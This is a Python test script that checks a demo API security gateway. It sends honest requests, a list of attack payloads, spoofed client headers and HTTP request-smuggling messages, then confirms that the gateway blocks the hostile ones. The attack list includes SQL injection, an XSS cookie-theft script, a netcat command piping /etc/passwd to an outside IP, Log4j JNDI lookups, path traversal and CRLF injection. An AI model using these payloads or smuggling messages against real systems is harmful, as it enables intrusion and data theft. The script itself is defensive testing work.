"""The gateway of the demo beside the service without one: `gateway.py WORD DIRECTORY`, with GATEWAY_PORT and PUBLIC_PORT.

`ours`: every operation of the OpenAPI document and many honest values pass the gateway; none is stopped.
`attacks`: each attack through the gateway and past it: the gateway stops it before the service sees it.
`doors`: what a client says about itself ends at the gateway, and the service is reached in no other way.
`framing`: messages that two parsers may read in two ways. The gateway and the service count the same requests.
`latency`: a read through the gateway and past it, by turns.

DIRECTORY has ca.pem, openapi.json and tokens: one token a line. What the gateway's log says is read with `docker
logs`, what the service has counted at its admin listener (SERVICE_ADMIN, operator.pem, operator.key).
"""

import datetime
import http.client
import json
import os
import pathlib
import re
import socket
import ssl
import statistics
import subprocess
import sys
import time

word, directory = sys.argv[1], pathlib.Path(sys.argv[2])
tokens = (directory / "tokens").read_text().split()
PORTS = {"gateway": int(os.environ["GATEWAY_PORT"]), "past it": int(os.environ["PUBLIC_PORT"])}
context = ssl.create_default_context(cafile=str(directory / "ca.pem"))
BEARER = {"Authorization": f"Bearer {tokens[0]}"}
JSON = {**BEARER, "Content-Type": "application/json"}


def ask(where, method, target, headers=(), body=None):
    """Status, fields and body of one answer, over a connection of its own. Fields go out as they are given."""
    connection = http.client.HTTPSConnection("localhost", PORTS[where], timeout=20, context=context)
    connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
    fields = list(headers.items() if isinstance(headers, dict) else headers)
    for name, value in [("Host", "localhost"), ("Accept", "application/json"), *fields]:
        connection.putheader(name, value)
    if body is not None:
        body = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode()
        connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body)
    answer = connection.getresponse()
    text = answer.read()
    connection.close()
    return answer.status, {name.lower(): value for name, value in answer.getheaders()}, text


def log():
    """The gateway's line of each request that it has written so far."""
    said = subprocess.run(
        ["docker", "logs", os.environ["GATEWAY_CONTAINER"]], check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    ).stdout.decode()
    return [json.loads(line) for line in said.splitlines() if line.startswith('{"time"')]


def line_of(request_id):
    """The gateway's line of the request whose answer had this id."""
    for _ in range(50):
        for line in reversed(log()):
            if request_id in (line["service_request_id"], line["request_id"]):
                return line
        time.sleep(0.1)
    raise AssertionError(f"the gateway's log has no request {request_id}")


def reached(fields):
    """Whether the service saw the request that was answered with these fields."""
    return line_of(fields["x-request-id"])["service_status"] != ""


def expires():
    end = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=7)
    return end.strftime("%Y-%m-%dT%H:%M:%SZ")


# --- ours

# What people write into a name or a note, and what looks like an attack to a rule that does not read it.
HONEST = [
    "O'Brien & Söhne",
    "Select Hotels Union Ltd",
    "drop shipping; order by e-mail",
    "Müller -- Bäckerei #1",
    "1 or 2 units, and 3 more",
    "Tom & Jerry <tom@example.com>",
    'called "the robot"',
    "50% off = good",
    "C:\\Users\\ann",
    "see https://example.com/a?b=c&d=e",
    "日本語の名前",
    "robot 🤖",
    "insert coin into slot",
    "script for update and delete",
    "null",
    "cat and dog",
    "a/b/c",
    "x = y; z = 1",
    "let's echo it: $5",
]

# Honest too, and SQL to the library that the Core Rule Set asks. docs/gateway.md names it.
MISTAKEN = "if (paid) then close"


def example(schema, document):
    """A value that a schema itself gives as its example."""
    if "$ref" in schema:
        return example(document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]], document)
    for known in (schema.get("examples", []), schema.get("enum", [])):
        if known:
            return known[0]
    if schema.get("type") == "object":
        wanted = schema.get("required") or schema.get("properties", {})
        return {name: example(schema["properties"][name], document) for name in wanted}
    if "oneOf" in schema or "anyOf" in schema:
        return example((schema.get("oneOf") or schema.get("anyOf"))[0], document)
    return {"array": [], "integer": schema.get("minimum", 1), "boolean": True}.get(schema.get("type"), "a")


def ours():
    document = json.loads((directory / "openapi.json").read_text())
    stopped, asked = [], []

    def honest(method, target, headers, body=None):
        status, fields, text = ask("gateway", method, target, headers, body)
        asked.append((fields["x-request-id"], f"{method} {target} {body}", status))
        return status, fields, text

    # Each operation, with the examples that the document has.
    for path, operations in document["paths"].items():
        target = re.sub(r"\{[^}]*\}", "01936f2e-7b1c-7d3e-8f00-0123456789ab", path)
        for method, operation in operations.items():
            headers = {**BEARER, "User-Agent": "curl/7.88.1", "If-Match": '"1"', "Idempotency-Key": "6f1c-4e2a"}
            body = None
            for media_type, content in operation.get("requestBody", {}).get("content", {}).items():
                headers["Content-Type"], body = media_type, example(content["schema"], document)
            honest(method.upper(), target, headers, body)
            if "query" in json.dumps(operation.get("parameters", [])):
                honest(method.upper(), f"{target}?limit=1", headers)
    # The life of a key, under honest names; its owner may have twenty.
    for name in HONEST:
        status, _, text = honest("POST", "/v1/api-keys", JSON, {"name": name, "permissions": [], "expires_at": expires()})
        assert status == 201, (name, status, text)
        key = json.loads(text)["id"]
        assert honest("GET", f"/v1/api-keys/{key}", BEARER)[0] == 200
        assert honest("DELETE", f"/v1/api-keys/{key}", BEARER)[0] == 204
    # What the service itself has to say about a mistake comes through.
    status, _, text = honest("POST", "/v1/api-keys", JSON, {"name": "", "permissions": ["no"], "expires_at": "tomorrow"})
    assert status in (400, 422) and json.loads(text)["errors"], (status, text)
    status, fields, _ = honest("GET", "/v1/me", {})
    assert status == 401 and "www-authenticate" in fields
    # A program of Python, and fields that nobody reads.
    honest("GET", "/v1/me", {**BEARER, "User-Agent": "python-requests/2.31", "Cookie": "a=b", "DNT": "1"})
    status, _, _ = ask("gateway", "POST", "/v1/api-keys", JSON, named(MISTAKEN))
    assert status == 403, "docs/gateway.md says that this is stopped by mistake"

    lines = log()
    by_id = {line[key]: line for line in lines for key in ("service_request_id", "request_id") if line[key]}
    for request_id, what, status in asked:
        if by_id[request_id]["service_status"] == "":
            stopped.append((what, status))
    assert not stopped, "the gateway stops what is ours:\n" + "\n".join(map(str, stopped))
    print(f"our own requests: {len(asked)} through the gateway, none stopped")


# --- attacks


def named(name):
    return {"name": name, "permissions": [], "expires_at": expires()}


def attacks():
    large = b'{"name":"' + b"a" * 70_000 + b'"}'
    listed = [
        # What is sent, and which statuses the gateway may answer.
        ("SQL injection in the query", "GET", "/v1/api-keys?limit=1%27%20OR%20%271%27=%271%27%20--", BEARER, None, 403),
        ("SQL injection in a body", "POST", "/v1/api-keys", JSON, named("x' UNION SELECT password FROM users--"), 403),
        ("script in a body", "POST", "/v1/api-keys", JSON, named("<script>alert(document.cookie)</script>"), 403),
        ("a shell's command in a body", "POST", "/v1/api-keys", JSON, named("; cat /etc/passwd | nc 192.0.2.1 80"), 403),
        ("a lookup of Log4j in a body", "POST", "/v1/api-keys", JSON, named("${jndi:ldap://192.0.2.1/a}"), 403),
        ("a lookup of Log4j in a field", "GET", "/v1/me", {**BEARER, "User-Agent": "${jndi:ldap://192.0.2.1/a}"}, None, 403),
        ("a way out of the directory", "GET", "/v1/../../etc/passwd", BEARER, None, (400, 403, 404)),
        ("the same, encoded", "GET", "/v1/me/%2e%2e%2f%2e%2e%2fetc%2fpasswd", BEARER, None, (400, 403, 404)),
        ("the same in the query", "GET", "/v1/api-keys?cursor=../../../../etc/passwd", BEARER, None, 403),
        ("a scanner by its name", "GET", "/v1/me", {**BEARER, "User-Agent": "sqlmap/1.7#stable"}, None, 403),
        ("another scanner", "GET", "/v1/me", {**BEARER, "User-Agent": "Nikto/2.5.0"}, None, 403),
        ("a file that others forget", "GET", "/.git/config", {}, None, 404),
        ("a path that is not there", "GET", "/v1/admin", BEARER, None, 404),
        ("the listener of operators", "GET", "/metrics", BEARER, None, 404),
        ("a method that is not there", "TRACE", "/v1/me", BEARER, None, (403, 405)),
        ("a method of another operation", "DELETE", "/v1/me", BEARER, None, 405),
        ("a form", "POST", "/v1/api-keys", {**BEARER, "Content-Type": "application/x-www-form-urlencoded"}, b"a=b", 415),
        ("XML", "POST", "/v1/api-keys", {**BEARER, "Content-Type": "application/xml"}, b"<a/>", 415),
        ("no JSON", "POST", "/v1/api-keys", JSON, b'{"name":', 400),
        ("JSON a hundred deep", "POST", "/v1/api-keys", JSON, b'{"name":' + b"[" * 100 + b"]" * 100 + b"}", 400),
        ("a body that is too large", "POST", "/v1/api-keys", JSON, large, 413),
        ("a target that is too long", "GET", "/v1/me?" + "a" * 9000, BEARER, None, 414),
        ("too many fields", "GET", "/v1/me", {**BEARER, **{f"X-{n}": "1" for n in range(70)}}, None, 431),
        ("two tokens", "GET", "/v1/me", [*BEARER.items(), ("Authorization", "Bearer other")], None, 400),
        ("an empty key of an attempt", "POST", "/v1/api-keys", {**JSON, "Idempotency-Key": ""}, named("empty"), 400),
        ("another host", "GET", "/v1/me", None, None, 421),
        ("a whole URL", "GET", "https://localhost/v1/me", BEARER, None, 400),
        ("another expectation", "GET", "/v1/me", {**BEARER, "Expect": "miracles"}, None, 417),
        ("a path that is not there, without a token", "GET", "/v1/admin", {}, None, 401),
        ("a field smuggled in the query", "GET", "/v1/api-keys?cursor=a%0d%0aSet-Cookie:%20a=b", BEARER, None, 403),
    ]
    print(f"{'attack':42} gateway  past it")
    failed = []
    for name, method, target, headers, body, expected in listed:
        statuses = {}
        for where in PORTS:
            if headers is None:
                status, fields, text = host(where)
            else:
                status, fields, text = ask(where, method, target, headers, body)
            statuses[where] = status
            if where == "gateway":
                if status not in (expected if isinstance(expected, tuple) else (expected,)):
                    failed.append((name, status, text[:200]))
                elif reached(fields):
                    failed.append((name, "the service has seen it"))
                else:
                    refusal(fields, text, status)
        # The service stands without the gateway too.
        if statuses["past it"] >= 500 and statuses["past it"] != 501:
            failed.append((name, statuses))
        print(f"{name:42} {statuses['gateway']:7}  {statuses['past it']:7}")
    assert not failed, "\n".join(map(str, failed))
    print(f"attacks: {len(listed)} sent, each stopped before the service")


def host(where):
    connection = http.client.HTTPSConnection("localhost", PORTS[where], timeout=20, context=context)
    connection.request("GET", "/v1/me", headers={"Host": "elsewhere.example"})
    answer = connection.getresponse()
    return answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()


def refusal(fields, text, status):
    """What the gateway refuses looks as if the service had: a problem document, with the fields of every answer."""
    assert fields["content-type"] == "application/problem+json", fields
    if text:
        problem = json.loads(text)
        assert problem["status"] == status, (problem, status)
        assert problem["instance"] == f"urn:uuid:{fields['x-request-id']}", problem
        assert set(problem) == {"type", "title", "status", "detail", "instance"}, problem
    _, ours, _ = ask("past it", "GET", "/no-such-path")
    for name, value in ours.items():
        if name not in ("x-request-id", "date", "content-length", "connection") and not name.startswith("ratelimit"):
            assert fields.get(name) == value or name in ("vary",), (name, value, fields.get(name))
    assert (status == 405) == ("allow" in fields), fields


# --- doors


def doors():
    """What a client says about itself ends at the gateway; nobody else has a way to the service."""
    chosen = "0af7651916cd43dd8448eb211c80319c"
    claims = {
        "X-Forwarded-For": "6.6.6.6",
        "Forwarded": "for=6.6.6.6;host=elsewhere",
        "X-Real-IP": "6.6.6.6",
        "X-Forwarded-Host": "elsewhere",
        "X-Remote-User": "root",
        "X-Client-Cert-Subject": "CN=root",
        "X-Request-Id": chosen,
        "Traceparent": f"00-{chosen}-b7ad6b7169203331-01",
    }
    status, fields, text = ask("gateway", "POST", "/v1/api-keys", {**JSON, **claims}, named("doors"))
    assert status == 201, (status, text)
    line = line_of(fields["x-request-id"])
    subprocess.run(["docker", "cp", f"{os.environ['GUARDED']}:/data/service/audit.jsonl", directory], check=True, stdout=subprocess.DEVNULL)
    journal = [json.loads(entry) for entry in (directory / "audit.jsonl").read_text().splitlines()]
    # The request is one in both: by the service's id, and by the trace that the gateway began.
    entries = [entry for entry in journal if entry.get("request_id") == fields["x-request-id"]]
    assert len(entries) == 2, entries
    for entry in entries:
        assert entry["trace_id"] == line["trace"] != chosen, (entry, line)
        assert entry["src_ip"] == line["address"] != "6.6.6.6", (entry, line)
    assert "6.6.6.6" not in (directory / "audit.jsonl").read_text()
    # TLS 1.3 alone, at the front as behind it.
    old = ssl.create_default_context(cafile=str(directory / "ca.pem"))
    old.maximum_version = ssl.TLSVersion.TLSv1_2
    closed("TLS 1.2", "localhost", PORTS["gateway"], old)
    # The service wants the gateway's certificate; the public one has no gateway in front and asks for none.
    closed("no certificate", os.environ["SERVICE_ADMIN"], 8443, context)
    print("doors: claims end at the gateway, both logs name the request, TLS 1.2 and a caller without a certificate get in nowhere")


def closed(what, address, port, settings):
    try:
        with socket.create_connection((address, port), timeout=10) as plain:
            with settings.wrap_socket(plain, server_hostname="localhost") as tls:
                tls.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
                answer = tls.recv(100)
    except (ssl.SSLError, ConnectionError):
        return
    assert not answer, f"{what}: {answer}"


# --- framing


def counted():
    """How many requests the service behind the gateway has answered, by its own metrics."""
    address = os.environ["SERVICE_ADMIN"]
    admin = ssl.create_default_context(cafile=str(directory / "ca.pem"))
    admin.load_cert_chain(directory / "operator.pem", directory / "operator.key")
    with socket.create_connection((address, 9443), timeout=10) as plain:
        with admin.wrap_socket(plain, server_hostname="guarded") as tls:
            token = (directory / "operator-token").read_text().strip()
            tls.sendall(
                f"GET /metrics HTTP/1.1\r\nHost: guarded\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n".encode()
            )
            text = b"".join(iter(lambda: tls.recv(65536), b"")).decode()
    assert text.startswith("HTTP/1.1 200"), text[:300]
    found = re.findall(r'^http_requests_total\{[^}]*listener="public"[^}]*\} (\d+)', text, re.M)
    return sum(map(int, found))


def raw(message):
    """Everything that is answered to these bytes on one connection."""
    with socket.create_connection(("localhost", PORTS["gateway"]), timeout=10) as plain:
        with context.wrap_socket(plain, server_hostname="localhost") as tls:
            tls.sendall(message)
            answer = b""
            try:
                while piece := tls.recv(65536):
                    answer += piece
            except (TimeoutError, ConnectionError, ssl.SSLError):
                pass
    return [int(status) for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", answer)]


def framing():
    host, token = "Host: localhost\r\n", f"Authorization: Bearer {tokens[1]}\r\n"
    post = f"POST /v1/api-keys HTTP/1.1\r\n{host}{token}Content-Type: application/json\r\n"
    last = f"GET /healthz HTTP/1.1\r\n{host}Connection: close\r\n\r\n"
    hidden = f"GET /v1/me HTTP/1.1\r\n{host}{token}\r\n"
    get = f"GET /v1/me HTTP/1.1\r\n{host}{token}"
    chunks = "2\r\n{}\r\n0\r\n\r\n"
    cases = {
        "length and chunks": f"{post}Content-Length: {len(hidden)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        "chunks and length": f"{post}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{chunks}",
        "two lengths": f"{post}Content-Length: 2\r\nContent-Length: 7\r\n\r\n{{}}",
        "a length with a sign": f"{post}Content-Length: +2\r\n\r\n{{}}",
        "a list of lengths": f"{post}Content-Length: 2, 2\r\n\r\n{{}}",
        "a space before the colon": f"{post}Transfer-Encoding : chunked\r\nContent-Length: 2\r\n\r\n{{}}",
        "another coding": f"{post}Transfer-Encoding: xchunked\r\n\r\n{chunks}",
        "two codings": f"{post}Transfer-Encoding: gzip, chunked\r\n\r\n{chunks}",
        "chunked twice": f"{post}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}",
        "a tab in the coding": f"{post}Transfer-Encoding:\tchunked\r\n\r\n{chunks}",
        "an extension of a chunk": f"{post}Transfer-Encoding: chunked\r\n\r\n2;a=b\r\n{{}}\r\n0\r\n\r\n",
        "a space behind the size": f"{post}Transfer-Encoding: chunked\r\n\r\n2 \r\n{{}}\r\n0\r\n\r\n",
        "one line that ends with LF": f"GET /v1/me HTTP/1.1\r\n{host}{token[:-2]}\nX-A: b\r\n\r\n",
        "a size with 0x": f"{post}Transfer-Encoding: chunked\r\n\r\n0x2\r\n{{}}\r\n0\r\n\r\n",
        "a negative size": f"{post}Transfer-Encoding: chunked\r\n\r\n-1\r\n{{}}\r\n0\r\n\r\n",
        "a huge size": f"{post}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff2\r\n{{}}\r\n0\r\n\r\n",
        "a chunk that ends with LF": f"{post}Transfer-Encoding: chunked\r\n\r\n2\n{{}}\n0\n\n",
        "a trailer": f"{post}Transfer-Encoding: chunked\r\n\r\n2\r\n{{}}\r\n0\r\nContent-Length: 99\r\n\r\n",
        "lines that end with LF": get.replace("\r\n", "\n") + "\n",
        "a folded field": f"{get}X-A: b\r\n c\r\n\r\n",
        "two hosts": f"{get}Host: elsewhere\r\n\r\n",
        "a whole URL": f"GET https://elsewhere/v1/me HTTP/1.1\r\n{host}{token}\r\n",
        "a null in a field": f"{get}X-A: b\0c\r\n\r\n",
        "a GET with a body": f"{get}Content-Length: {len(hidden)}\r\n\r\n{hidden}",
        "HTTP/1.0 with chunks": f"{post.replace('1.1', '1.0')}Transfer-Encoding: chunked\r\n\r\n{chunks}",
        "an upgrade": f"{get}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
        "fields named as hop-by-hop": f"{get}Connection: close, Authorization\r\n\r\n",
        "fifty requests": (get + "\r\n") * 50,
        "twenty bodies in chunks": (f"{post}Transfer-Encoding: chunked\r\n\r\n{chunks}") * 20,
    }
    failed = []
    print(f"{'message':32} answers  gateway's log  service")
    for name, message in cases.items():
        before, seen = len(log()), counted()
        statuses = raw((message + last).encode())
        lines = settled(before, len(statuses))
        passed = sum(1 for line in lines if line["service_status"])
        delta = counted() - seen
        print(f"{name:32} {len(statuses):7}  {len(lines):13}  {delta:7}  {sorted(set(statuses))}")
        # The service has answered what the gateway passed on, no more; each answer reached its client.
        if delta != passed:
            failed.append((name, f"the gateway passed on {passed}, the service answered {delta}"))
        if len(lines) != len(statuses):
            failed.append((name, f"{len(lines)} requests in the log, {len(statuses)} answers"))
        if name in ("fifty requests", "twenty bodies in chunks") and delta != len(statuses):
            failed.append((name, statuses))
        # What was hidden in a body was never a request of its own: one answer, and that to `last`.
        if len(statuses) > 2 and name not in ("fifty requests", "twenty bodies in chunks"):
            failed.append((name, statuses))
    assert not failed, "\n".join(map(str, failed))
    print(f"framing: {len(cases)} messages, gateway and service count the same")


def settled(before, wanted):
    """The new lines of the log, once there are as many as answers came."""
    for _ in range(20):
        lines = log()[before:]
        if len(lines) >= wanted:
            break
        time.sleep(0.05)
    return lines


# --- latency


def latency():
    """By turns, so that both have the same neighbours; slow enough for the quota of an address."""
    connections = {
        where: http.client.HTTPSConnection("localhost", port, timeout=10, context=context) for where, port in PORTS.items()
    }
    taken = {where: [] for where in PORTS}
    for turn in range(420):
        headers = {"Authorization": f"Bearer {tokens[turn % len(tokens)]}"}
        for where, connection in connections.items():
            start = time.perf_counter()
            connection.request("GET", "/v1/me", headers=headers)
            answer = connection.getresponse()
            answer.read()
            assert answer.status == 200, (where, answer.status)
            # The first ones make connections.
            if turn >= 20:
                taken[where].append((time.perf_counter() - start) * 1000)
        time.sleep(0.02)
    figures = {}
    for where, times in taken.items():
        cuts = statistics.quantiles(times, n=100)
        figures[where] = cuts[49], cuts[98]
    (p50, p99), (past50, past99) = figures["gateway"], figures["past it"]
    print(f"GET /v1/me through the gateway: p50 {p50:.2f} ms, p99 {p99:.2f} ms; past it: p50 {past50:.2f} ms, p99 {past99:.2f} ms")
    print(f"the gateway adds {p50 - past50:.2f} ms ({p50 / past50:.1f} times) at p50, {p99 - past99:.2f} ms ({p99 / past99:.1f} times) at p99")


{"ours": ours, "attacks": attacks, "doors": doors, "framing": framing, "latency": latency}[word]()
